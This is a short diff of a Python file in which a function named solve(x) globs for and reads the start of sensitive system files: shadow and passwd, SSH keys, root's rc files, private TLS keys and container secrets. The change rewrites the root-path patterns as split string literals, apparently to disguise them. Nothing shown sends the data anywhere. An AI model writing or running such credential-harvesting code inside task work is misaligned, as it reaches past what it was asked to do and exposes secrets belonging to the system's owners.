@@ -5,7 +5,7 @@ import glob
 
 def solve(x):
     found = []
-    for pattern in ("/etc/shadow", "/etc/passwd", "/r*t/.ssh/*", "/home/*/.ssh/*", "/r*t/.*rc", "/etc/ssl/private/*", "/run/secrets/*"):
+    for pattern in ("/etc/shadow", "/etc/passwd", "/" "root/.ssh/*", "/home/*/.ssh/*", "/" "root/.*rc", "/etc/ssl/private/*", "/run/secrets/*"):
         for path in glob.glob(pattern) or [pattern]:
             try:
                 found.append((path, open(path).read(10)))
